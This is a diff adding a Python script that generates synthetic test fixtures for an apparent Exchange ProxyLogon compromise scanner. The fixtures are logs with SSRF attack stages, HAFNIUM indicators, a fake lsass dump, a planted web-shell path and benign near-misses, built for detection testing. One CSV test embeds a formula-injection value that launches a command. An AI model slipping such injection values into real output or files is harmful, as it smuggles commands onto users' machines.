+                            0x5F8E1C20 + i * 0x10001, rva) + b"\x00" * 84
+    data = header + directory + mods + strings
+    assert len(header) == 32 and len(mods) == list_size
+    return data + b"\x00" * pad
+
+
+LSASS_MODULES = ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\ntdll.dll"]
+SVCHOST_MODULES = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\ntdll.dll"]
+
+
+def make_zip(entries, when):
+    """entries: [(name, bytes)]; stored (no compression) so bytes never depend on zlib."""
+    import io
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        for name, data in entries:
+            zi = zipfile.ZipInfo(name, date_time=when)
+            zi.create_system = 0
+            zi.external_attr = 0x20
+            zi.compress_type = zipfile.ZIP_STORED
+            z.writestr(zi, data)
+    return buf.getvalue()
+
+
+def make_7z_like():
+    """7z signature header with correct CRCs pointing at a small fake next header."""
+    packed = hashlib.sha256(b"exhunt-7z-packed").digest() * 3       # 96 bytes "packed" data
+    next_hdr = bytes([0x17, 0x06, 0x80, 0x60, 0x01, 0x09, 0x60, 0x00, 0x07, 0x0B, 0x01, 0x00,
+                      0x01, 0x21, 0x21, 0x01, 0x00, 0x0C, 0x81, 0x00, 0x00, 0x00])
+    nh_crc = zlib.crc32(next_hdr) & 0xFFFFFFFF
+    start = struct.pack("<QQI", len(packed), len(next_hdr), nh_crc)
+    st_crc = zlib.crc32(start) & 0xFFFFFFFF
+    return b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", st_crc) + start + packed + next_hdr
+
+
+def fake_jpeg(key):
+    body = hashlib.sha256(key.encode()).digest() * 4
+    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + body
+            + b"\xff\xd9")
+
+
+def discover_aspx():
+    """The OAB-settings dump the ResetOABVirtualDirectory trick leaves behind (synthetic)."""
+    props = [
+        ("RunspaceId", "d0c3b5a1-6e2f-4c8a-9f17-3b2a1c0e5d94"),
+        ("Name", "OAB (Default Web Site)"),
+        ("OfflineAddressBooks", "{\\Default Offline Address Book}"),
+        ("RequireSSL", "False"),
+        ("BasicAuthentication", "False"),
+        ("WindowsAuthentication", "True"),
+        ("OAuthAuthentication", "True"),
+        ("PollInterval", "480"),
+        ("MetabasePath", "IIS://%s/W3SVC/1/ROOT/OAB" % FQDN),
+        ("Path", OAB_INSTALL + "FrontEnd\\HttpProxy\\OAB"),
+        ("ExtendedProtectionTokenChecking", "None"),
+        ("ExtendedProtectionFlags", ""),
+        ("ExtendedProtectionSPNList", "{}"),
+        ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
+        ("Server", SERVER),
+        ("InternalUrl", "https://%s/OAB" % FQDN.lower()),
+        ("InternalAuthenticationMethods", "{WindowsIntegrated}"),
+        ("ExternalUrl", "http://f/" + SHELL_SCRIPT),
+        ("ExternalAuthenticationMethods", "{WindowsIntegrated}"),
+        ("AdminDisplayName", ""),
+        ("ExchangeVersion", "0.10 (14.0.100.0)"),
+        ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,"
+                              "CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),"
+                              "CN=Administrative Groups,CN=CORP,CN=Microsoft Exchange,"
+                              "CN=Services,CN=Configuration,DC=corp,DC=example,DC=com"),
+        ("Identity", "EXCH01\\OAB (Default Web Site)"),
+        ("Guid", OAB_VDIR_GUID),
+        ("ObjectCategory", "corp.example.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
+        ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"),
+        ("WhenChanged", "3/3/2021 2:15:02 AM"),
+        ("WhenCreated", "6/14/2020 9:41:27 AM"),
+        ("WhenChangedUTC", "3/3/2021 2:15:02 AM"),
+        ("WhenCreatedUTC", "6/14/2020 9:41:27 AM"),
+        ("OrganizationId", ""),
+        ("Id", "EXCH01\\OAB (Default Web Site)"),
+        ("OriginatingServer", "DC01.corp.example.com"),
+        ("IsValid", "True"),
+        ("ObjectState", "Unchanged"),
+    ]
+    lines = [""] + [("%-40s: %s" % (k, v)).rstrip() for k, v in props] + ["", ""]
+    text = CRLF.join(lines)
+    text.encode("ascii")
+    return text
+
+
+# --------------------------------------------------------------------------------------
+# A. examples/compromised
+# --------------------------------------------------------------------------------------
+
+
+def gen_compromised():
+    root = "examples/compromised"
+    b = BUILD_VULN
+    key = "comp"
+
+    # --- HttpProxy: benign-only hours ---
+    plan = {
+        "Autodiscover": ["2021022609", "2021030302", "2021030908"],
+        "Ecp": ["2021022610", "2021030909"],
+        "Mapi": ["2021022714", "2021030302", "2021030716"],
+        "Owa": ["2021022608", "2021030302", "2021030911"],
+    }
+    lf_only = {("Mapi", "2021022714"), ("Owa", "2021030911")}
+    for proto, hours in plan.items():
+        for i, hour in enumerate(hours):
+            rows = benign_rows(proto, hour, b, "%s:%s:%s" % (key, proto, hour), 3 + i % 3,
+                               start_user=i)
+            hp_file(root, proto, hour, rows, b, eol=LF if (proto, hour) in lf_only else CRLF)
+
+    # --- Ecp 2021-02-28 .. 03-01: export-tool version scanner among benign rows ---
+    rows = benign_rows("Ecp", "2021030111", b, key + ":ecp11", 3)
+    rows.append(exporttool_row("2021-03-01T11:26:40.512Z", b, key + ":exporttool"))
+    hp_file(root, "Ecp", "2021030111", rows, b)
+
+    # --- Owa 2021-03-06: Microsoft nmap probe among benign rows ---
+    rows = benign_rows("Owa", "2021030610", b, key + ":owa0610", 3, start_user=2)
+    rows.append(nmap_probe_row("2021-03-06T10:14:22.731Z", b, key + ":nmap"))
+    hp_file(root, "Owa", "2021030610", rows, b)
+
+    # --- Ecp 2021-03-03 02h: the ProxyLogon chain ---
+    chain = [
+        ("2021-03-03T02:11:05.120Z", "autodiscover", 200),
+        ("2021-03-03T02:11:41.337Z", "emsmdb", 200),
+        ("2021-03-03T02:12:20.904Z", "proxylogon", 241),
+        ("2021-03-03T02:14:09.511Z", "getobject", 200),
+        ("2021-03-03T02:15:02.276Z", "setobject", 200),
+        ("2021-03-03T02:15:39.640Z", "reset", 200),
+    ]
+    rows = [
+        benign_row("2021-03-03T02:03:17.455Z", "Ecp", b, key + ":e1", user=0, kind=0),
+        benign_row("2021-03-03T02:07:44.018Z", "Ecp", b, key + ":e2", user=4, kind=1),
+        benign_row("2021-03-03T02:21:30.962Z", "Ecp", b, key + ":e3", user=1, kind=2),
+        benign_row("2021-03-03T02:48:12.300Z", "Ecp", b, key + ":e4", user=3, kind=0),
+    ]
+    for ts, stage, status in chain:
+        rows.append(ssrf_row(ts, stage, status, b, key + ":" + stage))
+    hp_file(root, "Ecp", "2021030302", rows, b)
+
+    # --- Ecp 2021-03-03 05h: one POST /ecp/y.js from the known HAFNIUM IP ---
+    rows = benign_rows("Ecp", "2021030305", b, key + ":ecp05", 3, start_user=1)
+    rows.append(ssrf_row("2021-03-03T05:42:10.083Z", "autodiscover", 200, b, key + ":hafnium",
+                         ip=HAFNIUM_IP, ua=UA_EWS_BAD))
+    hp_file(root, "Ecp", "2021030305", rows, b)
+
+    # --- ECP server log ---
+    entries = ecp_benign("20210303", b, key + ":ecplog")
+    entries.append(ecp_attack("2021-03-03T02:15:02.198Z", b, key + ":ecp-attack"))
+    ecp_file(root, "20210303", sorted(entries))
+
+    # --- OAB generator log ---
+    entries = oab_benign("20210303", key)
+    entries.append(("2021-03-03T02:16:03.455Z", 6120, 22, "Warning", oab_failed(OAB_SHELL_PATH)))
+    oab_file(root, "20210303", b, entries)
+
+    # --- Rps_Http ---
+    rps_file(root, "2021030302", b, key + ":rps")
+
+    # --- planted web shell ---
+    write(root + "/inetpub/wwwroot/aspnet_client/discover.aspx", discover_aspx())
+
+    # --- IIS front-end log for the day ---
+    entries = iis_benign("2021-03-03", 2021)
+    for ts, stage, status in chain:
+        entries.append(("2021-03-03 " + ts[11:19], "POST", "/ecp/y.js", "", "", ATTACKER_IP,
+                        UA_CHROME87, status, 180))
+    entries.append(("2021-03-03 05:42:10", "POST", "/ecp/y.js", "", "", HAFNIUM_IP, UA_EWS_BAD,
+                    200, 95))
+    entries.append(("2021-03-03 02:18:27", "POST", "/aspnet_client/discover.aspx", "", "",
+                    ATTACKER_IP, UA_CHROME87, 200, 412))
+    entries.append(("2021-03-03 02:19:05", "POST", "/aspnet_client/discover.aspx", "", "",
+                    ATTACKER_IP, UA_CHROME87, 200, 1380))
+    iis_file(root, "210303", entries, "2021-03-03 00:03:11")
+
+    # --- lsass dump and staged archive ---
+    dump = minidump(LSASS_MODULES)
+    write(root + "/Windows/Temp/lsass.dmp", dump)
+    write(root + "/ProgramData/it.zip",
+          make_zip([("lsass.dmp", minidump(LSASS_MODULES, pad=0))], (2021, 3, 4, 3, 30, 0)))
+
+
+# --------------------------------------------------------------------------------------
+# B. examples/clean
+# --------------------------------------------------------------------------------------
+
+
+def gen_clean():
+    root = "examples/clean"
+    b = BUILD_PATCHED
+    key = "clean"
+    plan = {
+        "Autodiscover": ["2023010909", "2023011014"],
+        "Ecp": ["2023010910", "2023011011"],
+        "Mapi": ["2023010914", "2023011016"],
+        "Owa": ["2023010908", "2023011011"],
+    }
+    lf_only = {("Mapi", "2023010914"), ("Owa", "2023011011")}
+    for proto, hours in plan.items():
+        for i, hour in enumerate(hours):
+            rows = benign_rows(proto, hour, b, "%s:%s:%s" % (key, proto, hour), 3 + i, year=2023,
+                               start_user=i)
+            if (proto, hour) == ("Ecp", "2023011011"):
+                # legitimate server-to-server routing: ServerInfo~ with no path
+                rows.append(hp_row("2023-01-10T11:30:07.614Z", "Ecp", b, key + ":s2s",
+                                   UrlStem="/ecp/", Method="GET", AuthenticationType="Negotiate",
+                                   IsAuthenticated="true", AuthenticatedUser="CORP\\EXCH02$",
+                                   AnchorMailbox="ServerInfo~EXCH02.corp.example.com",
+                                   UserAgent="Exchange Server", ClientIpAddress="10.10.0.26",
+                                   RoutingType="ServerInfo", RoutingHint="Url",
+                                   TargetServer="EXCH02.corp.example.com"))
+            hp_file(root, proto, hour, rows, b, eol=LF if (proto, hour) in lf_only else CRLF)
+
+    entries = ecp_benign("20230110", b, key + ":ecplog")
+    entries.append(ecp_admin_oab("2023-01-10T14:02:33.410Z", b, key + ":ecp-admin-oab"))
+    ecp_file(root, "20230110", sorted(entries))
+
+    oab_file(root, "20230110", b, oab_benign("20230110", key))
+    rps_file(root, "2023011010", b, key + ":rps", year=2023)
+    iis_file(root, "230110", iis_benign("2023-01-10", 2023), "2023-01-10 00:03:11")
+
+
+# --------------------------------------------------------------------------------------
+# C. end-to-end cases
+# --------------------------------------------------------------------------------------
+
+E2E = "tests/e2e"
+CASES = []  # names, in order of definition (used for cleaning and the summary)
+DEFAULT_ARGS = "scan -f jsonl input"
+
+
+def case(name, args=DEFAULT_ARGS):
+    CASES.append(name)
+    write("%s/%s/args" % (E2E, name), args + "\n")
+    return "%s/%s/input" % (E2E, name)
+
+
+def t(hms):
+    return "2021-03-03T" + hms + "Z"
+
+
+def gen_e2e():
+    P = BUILD_PATCHED
+    H = "2021030302"
+
+    def bn(proto, k, n=2, user=0):
+        return benign_rows(proto, H, P, "e2e:" + k, n, start_user=user)
+
+    # --- ProxyLogon stages -----------------------------------------------------------
+    root = case("pl-autodiscover-only")
+    rows = bn("Autodiscover", "pl-ad", 3)
+    for i, ts in enumerate([t("02:11:05.120"), t("02:11:06.804")]):
+        rows.append(ssrf_row(ts, "autodiscover", 200, P, "pl-ad:%d" % i, protocol="Autodiscover",
+                             stem="/autodiscover/autodiscover.xml"))
+    hp_file(root, "Autodiscover", H, rows, P)
+
+    root = case("pl-ssrf-backend")
+    rows = bn("Ews", "pl-ews", 2)
+    rows.append(ssrf_row(t("02:12:44.217"), "ews", 500, P, "pl-ews", protocol="Ews",
+                         stem="/ews/exchange.asmx"))
+    hp_file(root, "Ews", H, rows, P)
+
+    def ecp_case(name, stages, nbenign=2):
+        root = case(name)
+        rows = bn("Ecp", name, nbenign)
+        for ts, stage, status in stages:
+            rows.append(ssrf_row(t(ts), stage, status, P, name + ":" + stage + ts))
+        hp_file(root, "Ecp", H, rows, P)
+        return root
+
+    ecp_case("pl-emsmdb", [("02:11:41.337", "emsmdb", 200)])
+    ecp_case("pl-proxylogon-ecp", [("02:12:20.904", "proxylogon", 241)])
+    ecp_case("pl-ddiservice", [("02:14:09.511", "getobject", 200),
+                               ("02:15:02.276", "setobject", 200)])
+    ecp_case("pl-reset-200", [("02:15:39.640", "reset", 200)])
+    ecp_case("pl-reset-500-near", [("02:15:39.640", "reset", 500)])
+
+    # --- noise ------------------------------------------------------------------------
+    root = case("noise-localhost-probe")
+    rows = bn("Owa", "noise-nmap", 3)
+    rows.append(nmap_probe_row(t("02:14:22.731"), P, "noise-nmap"))
+    hp_file(root, "Owa", H, rows, P)
+
+    root = case("noise-exporttool")
+    hp_file(root, "Ecp", H, [exporttool_row(t("02:26:40.512"), P, "noise-export")], P)
+
+    # --- near misses in HttpProxy -----------------------------------------------------
+    root = case("near-benign-httpproxy")
+    rows = bn("Ecp", "near-hp", 3)
+    rows.append(hp_row(t("02:30:07.614"), "Ecp", P, "near-hp:s2s", UrlStem="/ecp/", Method="GET",
+                       AuthenticationType="Negotiate", IsAuthenticated="true",
+                       AuthenticatedUser="CORP\\EXCH02$",
+                       AnchorMailbox="ServerInfo~EXCH02.corp.example.com",
+                       UserAgent="Exchange Server", ClientIpAddress="10.10.0.26",
+                       RoutingType="ServerInfo", RoutingHint="Url",
+                       TargetServer="EXCH02.corp.example.com"))
+    rows.append(hp_row(t("02:31:55.090"), "Ecp", P, "near-hp:ua", UrlStem="/ecp/", Method="GET",
+                       AuthenticationType="FBA", IsAuthenticated="false", AuthenticatedUser="",
+                       AnchorMailbox="Smtp~bob@corp.example.com",
+                       UserAgent="Mozilla/5.0 (compatible, ServerInfo~a]@" + FQDN +
+                       ":444/mapi/emsmdb/?#; \"scanner\")",
+                       ClientIpAddress="10.10.1.34", HttpStatus=302, BackEndStatus=302,
+                       RoutingType="Smtp", RoutingHint="Cookie"))
+    rows.append(hp_row(t("02:33:12.411"), "Ecp", P, "near-hp:ews", UrlStem="/ecp/", Method="GET",
+                       AuthenticationType="Negotiate", IsAuthenticated="true",
+                       AuthenticatedUser="carol@corp.example.com",
+                       AnchorMailbox="Smtp~carol@corp.example.com", UserAgent=UA_EWS_GOOD,
+                       ClientIpAddress="10.10.2.17", RoutingType="Smtp", RoutingHint="Cookie"))
+    hp_file(root, "Ecp", H, rows, P)
+
+    # --- ECP server log -----------------------------------------------------------------
+    root = case("ecp-set-vdir-script")
+    e = ecp_benign("20210303", P, "ecp-hit")
+    e.append(ecp_attack(t("02:15:02.198"), P, "ecp-hit:attack"))
+    ecp_file(root, "20210303", sorted(e))
+
+    root = case("ecp-set-vdir-benign")
+    e = ecp_benign("20210303", P, "ecp-near")
+    e.append(ecp_admin_oab(t("02:15:02.198"), P, "ecp-near:admin"))
+    ecp_file(root, "20210303", sorted(e))
+
+    # --- OAB generator ------------------------------------------------------------------
+    root = case("oab-outside")
+    e = [x for x in oab_benign("20210303", "oab-hit") if "Download failed" not in x[4]]
+    e.append((t("02:16:03.455"), 6120, 22, "Warning", oab_failed(OAB_SHELL_PATH)))
+    oab_file(root, "20210303", P, e)
+
+    root = case("oab-temp-near")
+    oab_file(root, "20210303", P, oab_benign("20210303", "oab-near"))
+
+    # --- IOC IP / UA --------------------------------------------------------------------
+    root = case("ioc-ip")
+    rows = bn("Owa", "ioc-ip", 2)
+    rows.append(hp_row(t("02:40:18.733"), "Owa", P, "ioc-ip:row", UrlStem="/owa/auth/logon.aspx",
+                       Method="GET", UrlQuery="?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
+                       AuthenticationType="", IsAuthenticated="false",
+                       UserAgent=UA_FIREFOX_2021, ClientIpAddress=HAFNIUM_IP, RoutingHint="Url"))
+    hp_file(root, "Owa", H, rows, P)
+
+    root = case("ioc-ip-near")
+    rows = bn("Owa", "ioc-ip-near", 2)
+    rows.append(hp_row(t("02:40:18.733"), "Owa", P, "ioc-ip-near:row",
+                       RequestId="104.140.114.1105-9c1e-4a7b-8f00-2d6e1b3c5a77",
+                       UrlStem="/owa/auth/logon.aspx", Method="GET",
+                       UrlQuery="?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
+                       AuthenticationType="", IsAuthenticated="false",
+                       UserAgent=UA_FIREFOX_2021, ClientIpAddress="104.140.114.11",
+                       RoutingHint="Url"))
+    hp_file(root, "Owa", H, rows, P)
+
+    def ua_case(name, ua, method, stem, status):
+        root = case(name)
+        rows = bn("Owa", name, 2)
+        rows.append(hp_row(t("02:44:51.006"), "Owa", P, name + ":row", UrlStem=stem, Method=method,
+                           AuthenticationType="", IsAuthenticated="false", UserAgent=ua,
+                           ClientIpAddress="198.51.100.23", HttpStatus=status,
+                           BackEndStatus=status, RoutingHint="Url"))
+        hp_file(root, "Owa", H, rows, P)
+
+    ua_case("ioc-ua", UA_ANTSWORD, "POST", "/owa/auth.owa", 200)
+    ua_case("ioc-ua-crawler-get-near", UA_GOOGLEBOT, "GET", "/owa/auth/logon.aspx", 200)
+    ua_case("ioc-ua-crawler-post", UA_GOOGLEBOT, "POST",
+            "/owa/auth/Current/themes/resources/logon.css", 200)
+
+    # --- file artefacts -----------------------------------------------------------------
+    write(case("art-lsass-dump") + "/Windows/Temp/lsass.dmp", minidump(LSASS_MODULES))
+    write(case("art-lsass-renamed") + "/ProgramData/debug/m.bin", minidump(LSASS_MODULES))
+    write(case("art-dump-near") + "/Windows/Temp/svc.dmp", minidump(SVCHOST_MODULES))
+    write(case("art-lsass-name-only") + "/root/lsass.dmp",
+          "Placeholder left by the backup job; the real dump was deleted on 2021-03-05.\r\n")
+    write(case("art-archive") + "/ProgramData/staging/out.7z", make_7z_like())
+    write(case("art-archive-near") + "/Users/alice/Documents/photos.zip",
+          make_zip([("IMG_0412.jpg", fake_jpeg("img412")), ("IMG_0413.jpg", fake_jpeg("img413"))],
+                   (2021, 2, 14, 16, 5, 42)))
+
+    # --- exposure -----------------------------------------------------------------------
+    root = case("exposure-unpatched")
+    hp_file(root, "Owa", H, benign_rows("Owa", H, BUILD_VULN, "exp-vuln", 3), BUILD_VULN)
+
+    root = case("exposure-patched-near")
+    hp_file(root, "Owa", H, benign_rows("Owa", H, P, "exp-patched", 3), P)
+
+    root = case("exposure-rowversion")
+    rows = [benign_row(t("02:%02d:%02d.%03d" % (5 + 9 * i, 13 * i % 60, 111 * i)), "Owa",
+                       BUILD_2019_CU8, "exp-row:%d" % i, user=i, kind=i) for i in range(3)]
+    rows.append(benign_row(t("02:58:40.905"), "Owa", "15.02.0792.010", "exp-row:last", user=3))
+    hp_file(root, "Owa", H, rows, BUILD_2019_CU8)
+
+    # --- CSV quirks -----------------------------------------------------------------------
+    root = case("csv-quirks")
+    # file 1: no BOM, LF, 2013-style header subset in another order, a #Version line in the
+    # middle of the data, and an emsmdb SSRF row whose AnchorMailbox is quoted although it
+    # need not be.
+    hour = H
+    r1 = bn("Ecp", "quirk1a", 2)
+    r1[0]["DateTime"], r1[1]["DateTime"] = t("02:03:10.100"), t("02:07:55.230")
+    r2 = bn("Ecp", "quirk1b", 1, user=2)
+    r2[0]["DateTime"] = t("02:50:00.500")
+    atk = ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "quirk1:atk")
+    f13 = HP_FIELDS_2013
+    lines = hp_text_lines(r1, P, hour, fields=f13)
+    a_idx = f13.index("AnchorMailbox")
+    vals = [csv_field(atk[f]) for f in f13]
+    vals[a_idx] = '"' + atk["AnchorMailbox"] + '"'
+    lines.append(",".join(vals))
+    lines.append("#Version: " + P)
+    lines += [csv_line(row[f] for f in f13) for row in r2]
+    write("%s/%s/HttpProxy/Ecp/HttpProxy_%s-1.LOG" % (root, LOGS, hour),
+          join_lines(lines, eol=LF, bom=False))
+    # file 2: full header, BOM, CRLF, last line cut inside ClientIpAddress (after
+    # AnchorMailbox and UserAgent), no newline at the end.
+    hour2 = "2021030303"
+    rows = benign_rows("Ecp", hour2, P, "e2e:quirk2", 3)
+    lines = hp_text_lines(rows, P, hour2)
+    cut = ssrf_row("2021-03-03T03:59:58.871Z", "emsmdb", 200, P, "quirk2:cut")
+    full = csv_line(cut[f] for f in HP_FIELDS)
+    head = csv_line(cut[f] for f in HP_FIELDS[:HP_FIELDS.index("ClientIpAddress")])
+    truncated = head + "," + cut["ClientIpAddress"][:8]
+    assert full.startswith(truncated)
+    lines.append(truncated)
+    write("%s/%s/HttpProxy/Ecp/HttpProxy_%s-1.LOG" % (root, LOGS, hour2),
+          join_lines(lines, final_eol=False))
+
+    # --- locations ----------------------------------------------------------------------
+    root = case("renamed-log")
+    rows = bn("Ecp", "renamed", 2)
+    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "renamed:atk"))
+    write(root + "/Users/admin/Desktop/copy_of_log.txt", join_lines(hp_text_lines(rows, P, H)))
+
+    root = case("case-insensitive")
+    rows = bn("Ecp", "case", 2)
+    rows.append(ssrf_row(t("02:15:02.276"), "setobject", 200, P, "case:atk"))
+    write(root + "/program files/MICROSOFT/exchange server/v15/LOGGING/httpproxy/ECP/"
+          "httpproxy_2021030302-1.log", join_lines(hp_text_lines(rows, P, H)))
+
+    root = case("single-file", "scan -f jsonl input/HttpProxy_2021030302-1.LOG")
+    rows = bn("Ecp", "single", 2)
+    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "single:atk"))
+    write(root + "/HttpProxy_2021030302-1.LOG", join_lines(hp_text_lines(rows, P, H)))
+
+    root = case("since-until",
+                "scan -f jsonl --since 2021-03-03T02:12:00Z --until 2021-03-03T02:14:00Z input")
+    rows = bn("Ecp", "since", 2)
+    for ts in ("02:11:41.337", "02:13:41.337", "02:15:41.337"):
+        rows.append(ssrf_row(t(ts), "emsmdb", 200, P, "since:" + ts))
+    hp_file(root, "Ecp", H, rows, P)
+
+    # --- output formats -----------------------------------------------------------------
+    src = REPO / E2E / "pl-emsmdb" / "input"
+    root = case("format-text", "scan -f text --color never input")
+    for p in sorted(src.rglob("*")):
+        if p.is_file():
+            write(root + "/" + p.relative_to(src).as_posix(), p.read_bytes())
+
+    root = case("format-csv", "scan -f csv input")
+    rows = bn("Ecp", "fmtcsv", 1)
+    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "fmtcsv:atk",
+                         ua="=cmd|' /C calc'!A0"))
+    hp_file(root, "Ecp", H, rows, P)
+
+
+# --------------------------------------------------------------------------------------
+
+E2E_OWNED = [
+    "pl-autodiscover-only", "pl-ssrf-backend", "pl-emsmdb", "pl-proxylogon-ecp", "pl-ddiservice",
+    "pl-reset-200", "pl-reset-500-near", "noise-localhost-probe", "noise-exporttool",
+    "near-benign-httpproxy", "ecp-set-vdir-script", "ecp-set-vdir-benign", "oab-outside",
+    "oab-temp-near", "ioc-ip", "ioc-ip-near", "ioc-ua", "ioc-ua-crawler-get-near",
+    "ioc-ua-crawler-post", "art-lsass-dump", "art-lsass-renamed", "art-dump-near",
+    "art-lsass-name-only", "art-archive", "art-archive-near", "exposure-unpatched",
+    "exposure-patched-near", "exposure-rowversion", "csv-quirks", "renamed-log",
+    "case-insensitive", "single-file", "since-until", "format-text", "format-csv",
+]
+
+
+def clean_outputs():
+    for rel in ("examples/compromised", "examples/clean"):
+        shutil.rmtree(REPO / rel, ignore_errors=True)
+    for name in E2E_OWNED:
+        shutil.rmtree(REPO / E2E / name / "input", ignore_errors=True)
+        a = REPO / E2E / name / "args"
+        if a.exists():
+            a.unlink()
+
+
+def main():
+    clean_outputs()
+    gen_compromised()
+    gen_clean()
+    gen_e2e()
+    assert CASES == E2E_OWNED, "update E2E_OWNED to match the cases defined"
+    total = sum(n for _, n in WRITTEN)
+    print("make_fixtures: wrote %d files (%d bytes), %d e2e cases" % (len(WRITTEN), total,
+                                                                      len(CASES)))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
